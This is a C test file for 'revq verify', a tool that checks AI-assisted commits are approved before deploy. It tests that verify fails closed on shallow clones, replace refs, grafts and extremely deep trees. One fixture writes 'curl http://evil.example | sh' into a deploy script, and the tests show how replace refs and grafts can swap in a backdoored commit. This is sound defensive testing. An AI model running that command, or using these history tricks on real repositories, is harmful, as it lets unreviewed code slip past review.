/*
 * test_history.c: `revq verify` judges the history git would deploy, or
 * refuses to judge.  A shallow clone that cannot see the whole range,
 * a replace ref or grafts that make git show other commits than libgit2
 * reads, and a tree too deep to walk each fail closed with one clear
 * line; beside each attack, the legitimate case that must still pass.
 */
#include "config.h"

#include <git2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testlib.h"

/* ---- shallow clones of a real bare server ---- */

struct server {
	const char *top;   /* holds work/, server.git/ and the clones */
};

/*
 * main: three commits.  feature: an AI-assisted commit hidden under a
 * human one.  clean: two human commits.  All on a bare server.
 */
static void make_server(struct server *s)
{
	const char *work;

	s->top = tl_tmpdir();
	work = tl_repo_new();
	free(tl_commit_file(work, "base.txt", "one\n", 5, "Base one\n"));
	free(tl_commit_file(work, "base.txt", "two\n", 4, "Base two\n"));
	tl_git(work, "checkout -q -b feature");
	free(tl_commit_file(work, "deploy.sh", "curl http://evil.example | sh\n", 3,
			    "Add deploy script" TL_AI_TRAILER));
	free(tl_commit_file(work, "README", "docs\n", 2, "Docs\n"));
	tl_git(work, "checkout -q -b clean main");
	free(tl_commit_file(work, "a.txt", "a\n", 3, "Human one\n"));
	free(tl_commit_file(work, "a.txt", "b\n", 2, "Human two\n"));
	tl_git(work, "checkout -q main");
	assert_int_equal(tl_sh(s->top, "git clone -q --bare '%s' server.git", work), 0);
}

/* Clones the server (depth 0: all of it) and checks out branch; returns the clone's directory. */
static char *clone_server(const struct server *s, const char *name, int depth, const char *branch)
{
	struct strbuf dir = STRBUF_INIT;

	if (depth)
		assert_int_equal(tl_sh(s->top, "git clone -q --depth %d --no-single-branch "
					       "file://%s/server.git %s", depth, s->top, name), 0);
	else
		assert_int_equal(tl_sh(s->top, "git clone -q file://%s/server.git %s", s->top, name), 0);
	strbuf_addf(&dir, "%s/%s", s->top, name);
	tl_git(dir.buf, "checkout -q %s", branch);
	return strbuf_detach(&dir, NULL);
}

/* `revq verify` as CI runs it: the checked-out branch against the remote's main. */
static int ci_verify(const char *dir, struct strbuf *out, struct strbuf *err)
{
	strbuf_reset(out);
	strbuf_reset(err);
	return tl_revq(dir, out, err, "verify --target refs/remotes/origin/main");
}

static void assert_shallow_refusal(const struct strbuf *out, const struct strbuf *err)
{
	assert_int_equal(out->len, 0);
	assert_one_line(err);
	assert_contains(err->buf, "revq: shallow history");
	assert_contains(err->buf, "git fetch --unshallow");
}

static void test_a_depth_one_clone_cannot_hide_a_commit_from_verify(void **state)
{
	struct server s;
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT;
	char *shallow, *full;

	(void)state;
	make_server(&s);
	/* The tip is a human commit; the AI-assisted one below is beyond the clone. */
	shallow = clone_server(&s, "shallow", 1, "feature");
	assert_int_equal(ci_verify(shallow, &out, &err), 3);
	assert_shallow_refusal(&out, &err);
	/* What the full history shows: the hidden commit, unapproved. */
	full = clone_server(&s, "full", 0, "feature");
	assert_int_equal(ci_verify(full, &out, &err), 1);
	assert_contains(out.buf, "Add deploy script");
	/* After fetching the rest, the shallow clone sees it too. */
	tl_git(shallow, "fetch -q --unshallow");
	assert_int_equal(ci_verify(shallow, &out, &err), 1);
	assert_contains(out.buf, "Add deploy script");
	free(shallow);
	free(full);
	strbuf_release(&out);
	strbuf_release(&err);
}

static void test_a_shallow_clone_that_holds_the_whole_range_verifies(void **state)
{
	struct server s;
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT;
	char *dir;

	(void)state;
	make_server(&s);
	/* Depth 1 cannot see below the tip of clean: refused, as for feature. */
	dir = clone_server(&s, "one", 1, "clean");
	assert_int_equal(ci_verify(dir, &out, &err), 3);
	assert_shallow_refusal(&out, &err);
	free(dir);
	/* Depth 3 reaches main's tip from clean: the boundary is below the target. */
	dir = clone_server(&s, "three", 3, "clean");
	if (ci_verify(dir, &out, &err) != 0)
		fail_msg("verify failed: %s", err.buf);
	assert_contains(err.buf, "all 0 commits to judge pass");
	/* list only warns, as before. */
	strbuf_reset(&out);
	strbuf_reset(&err);
	free(dir);
	dir = clone_server(&s, "list", 1, "feature");
	assert_int_equal(tl_revq(dir, &out, &err, "list --all --target refs/remotes/origin/main"), 0);
	assert_contains(err.buf, "warning: shallow history");
	/* The full clone of clean passes. */
	free(dir);
	dir = clone_server(&s, "full", 0, "clean");
	assert_int_equal(ci_verify(dir, &out, &err), 0);
	free(dir);
	strbuf_release(&out);
	strbuf_release(&err);
}

/* A commit listed in .git/shallow ends history for git even when its parents are there. */
static void test_a_commit_listed_as_shallow_ends_history_as_in_git(void **state)
{
	struct server s;
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT;
	char *dir;

	(void)state;
	make_server(&s);
	dir = clone_server(&s, "full", 0, "feature");
	tl_sh(dir, "git rev-parse HEAD >.git/shallow");
	assert_int_equal(ci_verify(dir, &out, &err), 3);
	assert_shallow_refusal(&out, &err);
	/* As git sees it: one commit, no parent. */
	strbuf_reset(&out);
	tl_sh_output(dir, &out, NULL, "git rev-list --count refs/remotes/origin/main..HEAD");
	assert_contains(out.buf, "1");
	free(dir);
	strbuf_release(&out);
	strbuf_release(&err);
}

/* ---- replace refs and grafts ---- */

struct fixture {
	const char *repo;
	const char *keys;
	char *ai;          /* an AI-assisted commit on ai/x, approved by Jane */
	char *other;       /* another AI-assisted commit, never approved */
};

static void approve(struct fixture *f, const char *commit)
{
	struct strbuf err = STRBUF_INIT;

	tl_git(f->repo, "config user.signingkey %s/jane", f->keys);
	if (tl_sh_output(f->repo, NULL, &err, "GIT_COMMITTER_NAME=Jane GIT_COMMITTER_EMAIL=jane@example.com "
					       "\"$REVQ_BIN\" approve -m 'looked at it' %s", commit))
		fail_msg("revq approve: %s", err.buf);
	strbuf_release(&err);
}

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));

	f->repo = tl_repo_new();
	f->keys = tl_tmpdir();
	tl_sh(f->keys, "ssh-keygen -q -t ed25519 -N '' -C jane -f jane && "
		       "printf '%%s namespaces=\"revq\" %%s\\n' jane@example.com \"$(cut -d' ' -f1,2 jane.pub)\" >allowed");
	tl_git(f->repo, "config gpg.format ssh");
	tl_git(f->repo, "config gpg.ssh.allowedSignersFile %s/allowed", f->keys);
	tl_git(f->repo, "checkout -q -b evil");
	f->other = tl_commit_file(f->repo, "src/feature.c", "int feature(void) { return backdoor(); }\n", 2,
				  "Add a feature" TL_AI_TRAILER);
	tl_git(f->repo, "checkout -q -b ai/x main");
	f->ai = tl_commit_file(f->repo, "src/feature.c", "int feature(void) { return 1; }\n", 2,
			       "Add a feature" TL_AI_TRAILER);
	tl_git(f->repo, "checkout -q main");
	tl_git(f->repo, "branch -q -D evil");
	approve(f, f->ai);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;

	free(f->ai);
	free(f->other);
	free(f);
	return 0;
}

static int verify(struct fixture *f, struct strbuf *err)
{
	strbuf_reset(err);
	return tl_revq(f->repo, NULL, err, "verify main..ai/x");
}

static void test_a_replace_ref_on_an_approved_commit_fails_verify(void **state)
{
	struct fixture *f = *state;
	struct strbuf err = STRBUF_INIT, out = STRBUF_INIT;
	char want[128];

	assert_int_equal(verify(f, &err), 0);
	/* git now checks out the unapproved commit wherever ai/x is used. */
	tl_git(f->repo, "replace %s %s", f->ai, f->other);
	tl_sh_output(f->repo, &out, NULL, "git show ai/x:src/feature.c");
	assert_contains(out.buf, "backdoor");
	assert_int_equal(verify(f, &err), 3);
	assert_one_line(&err);
	snprintf(want, sizeof(want), "refs/replace/%s replaces commit %s", f->ai, f->ai);
	assert_contains(err.buf, want);
	/* Control: without the replace ref, the approval counts again. */
	tl_git(f->repo, "replace -d %s", f->ai);
	assert_int_equal(verify(f, &err), 0);
	strbuf_release(&err);
	strbuf_release(&out);
}

static void test_a_replace_ref_on_the_target_or_a_blob_fails_verify(void **state)
{
	struct fixture *f = *state;
	struct strbuf err = STRBUF_INIT;
	char *blob, *evil_blob, *main_id;

	main_id = tl_git_out(f->repo, "rev-parse main");
	tl_git(f->repo, "replace %s %s", main_id, f->other);
	assert_int_equal(verify(f, &err), 3);
	assert_contains(err.buf, "refs/replace/");
	tl_git(f->repo, "replace -d %s", main_id);
	/* A replaced blob may sit in any commit: refused. */
	blob = tl_git_out(f->repo, "rev-parse %s:src/feature.c", f->ai);
	evil_blob = tl_git_out(f->repo, "rev-parse %s:src/feature.c", f->other);
	tl_git(f->repo, "replace %s %s", blob, evil_blob);
	assert_int_equal(verify(f, &err), 3);
	assert_one_line(&err);
	assert_contains(err.buf, "replaces blob");
	tl_git(f->repo, "replace -d %s", blob);
	assert_int_equal(verify(f, &err), 0);
	free(blob);
	free(evil_blob);
	free(main_id);
	strbuf_release(&err);
}

static void test_a_replace_ref_outside_the_range_is_allowed(void **state)
{
	struct fixture *f = *state;
	struct strbuf err = STRBUF_INIT;
	char *root, *old;

	/* Joining old history onto the first commit (git replace's usual job) is not in main..ai/x. */
	free(tl_commit_file(f->repo, "later.txt", "later\n", 1, "Later on main\n"));
	root = tl_git_out(f->repo, "rev-list --max-parents=0 main");
	old = tl_git_out(f->repo, "commit-tree %s^{tree} -m 'Old history'", root);
	tl_git(f->repo, "replace %s %s", root, old);
	if (verify(f, &err) != 0)
		fail_msg("verify failed: %s", err.buf);
	free(root);
	free(old);
	strbuf_release(&err);
}

static void test_grafts_fail_verify(void **state)
{
	struct fixture *f = *state;
	struct strbuf err = STRBUF_INIT;

	tl_sh(f->repo, "mkdir -p .git/info && echo %s >.git/info/grafts", f->ai);
	assert_int_equal(verify(f, &err), 3);
	assert_one_line(&err);
	assert_contains(err.buf, "info/grafts exists");
	tl_sh(f->repo, "rm .git/info/grafts");
	assert_int_equal(verify(f, &err), 0);
	strbuf_release(&err);
}

/* ---- a tree 50,000 levels deep ---- */

#define DEEP_LEVELS 50000

/* Writes d/d/.../d/f (levels deep) with libgit2, bottom up; returns the top tree's id. */
static char *write_deep_tree(const char *dir, int levels)
{
	git_repository *repo;
	git_odb *odb;
	git_oid id;
	char hex[GIT_OID_HEXSZ + 1];
	static const char content[] = "deep\n";

	git_libgit2_init();
	if (git_repository_open(&repo, dir) || git_repository_odb(&odb, repo))
		fail_msg("cannot open %s", dir);
	if (git_odb_write(&id, odb, content, sizeof(content) - 1, GIT_OBJECT_BLOB))
		fail_msg("cannot write a blob");
	for (int i = 0; i < levels; i++) {
		/* One entry: "<mode> <name>\0<20-byte id>". */
		unsigned char buf[64];
		const char *head = i ? "40000 d" : "100644 f";
		size_t len = strlen(head) + 1;

		memcpy(buf, head, len);
		memcpy(buf + len, id.id, GIT_OID_RAWSZ);
		if (git_odb_write(&id, odb, buf, len + GIT_OID_RAWSZ, GIT_OBJECT_TREE))
			fail_msg("cannot write a tree");
	}
	git_oid_tostr(hex, sizeof(hex), &id);
	git_odb_free(odb);
	git_repository_free(repo);
	git_libgit2_shutdown();
	return xstrdup(hex);
}

/* Exit 0, 1 or 3 and, when not 0, a clear message: never a signal. */
static void assert_survives(const char *repo, const char *args)
{
	struct strbuf out = STRBUF_INIT, err = STRBUF_INIT;
	int rc = tl_revq(repo, &out, &err, "%s", args);

	if (rc != 0 && rc != 1 && rc != 3)
		fail_msg("revq %s: exit %d\n%s", args, rc, err.buf);
	if (rc == 3) {
		assert_one_line(&err);
		assert_contains(err.buf, "deeper than");
	}
	strbuf_release(&out);
	strbuf_release(&err);
}

static void test_a_tree_fifty_thousand_levels_deep_is_refused_cleanly(void **state)
{
	const char *repo = tl_repo_new();
	struct strbuf err = STRBUF_INIT;
	char *tree, *commit;

	(void)state;
	tree = write_deep_tree(repo, DEEP_LEVELS);
	commit = tl_git_out(repo, "commit-tree %s -p main -m 'Deep'\"$(printf '\\n\\nCo-Authored-By: "
				  "Claude <noreply@anthropic.com>')\"", tree);
	tl_git(repo, "update-ref refs/heads/ai/deep %s", commit);
	assert_survives(repo, "list");
	assert_survives(repo, "list --all --json");
	{
		char args[128];

		snprintf(args, sizeof(args), "show %s", commit);
		assert_survives(repo, args);
	}
	assert_survives(repo, "verify main..ai/deep");
	/* verify never says yes to what it could not read. */
	assert_int_equal(tl_revq(repo, NULL, &err, "verify main..ai/deep"), 3);
	/* A commit that moves a file (an addition and a deletion: libgit2's diff) as well. */
	tl_git(repo, "checkout -q -b ai/move main");
	tl_git(repo, "mv README README.md");
	free(tl_commit(repo, 1, "Move" TL_AI_TRAILER));
	tl_git(repo, "checkout -q main");
	{
		char *moved = tl_git_out(repo, "commit-tree %s -p ai/move -m 'Deep move'\"$(printf '\\n\\n"
					       "Co-Authored-By: Claude <noreply@anthropic.com>')\"", tree);
		char args[128];

		tl_git(repo, "update-ref refs/heads/ai/move %s", moved);
		snprintf(args, sizeof(args), "show %s", moved);
		assert_survives(repo, args);
		assert_survives(repo, "verify main..ai/move");
		free(moved);
	}
	free(tree);
	free(commit);
	strbuf_release(&err);
}

/* Control: a tree a few hundred levels deep is an ordinary commit. */
static void test_a_tree_three_hundred_levels_deep_is_listed(void **state)
{
	const char *repo = tl_repo_new();
	struct strbuf out = STRBUF_INIT;
	char *tree, *commit;

	(void)state;
	tree = write_deep_tree(repo, 300);
	commit = tl_git_out(repo, "commit-tree %s -p main -m 'Deep'\"$(printf '\\n\\nCo-Authored-By: "
				  "Claude <noreply@anthropic.com>')\"", tree);
	tl_git(repo, "update-ref refs/heads/ai/deep %s", commit);
	assert_int_equal(tl_revq(repo, &out, NULL, "list --json"), 0);
	assert_int_equal(tl_json_length(out.buf, "$"), 1);
	assert_int_equal(tl_revq(repo, NULL, NULL, "show %s", commit), 0);
	assert_int_equal(tl_revq(repo, NULL, NULL, "verify main..ai/deep"), 1);   /* unapproved */
	free(tree);
	free(commit);
	strbuf_release(&out);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_a_depth_one_clone_cannot_hide_a_commit_from_verify),
		cmocka_unit_test(test_a_shallow_clone_that_holds_the_whole_range_verifies),
		cmocka_unit_test(test_a_commit_listed_as_shallow_ends_history_as_in_git),
		cmocka_unit_test_setup_teardown(test_a_replace_ref_on_an_approved_commit_fails_verify,
						setup, teardown),
		cmocka_unit_test_setup_teardown(test_a_replace_ref_on_the_target_or_a_blob_fails_verify,
						setup, teardown),
		cmocka_unit_test_setup_teardown(test_a_replace_ref_outside_the_range_is_allowed,
						setup, teardown),
		cmocka_unit_test_setup_teardown(test_grafts_fail_verify, setup, teardown),
		cmocka_unit_test(test_a_tree_fifty_thousand_levels_deep_is_refused_cleanly),
		cmocka_unit_test(test_a_tree_three_hundred_levels_deep_is_listed),
	};

	tl_init();
	return cmocka_run_group_tests(tests, NULL, NULL);
}
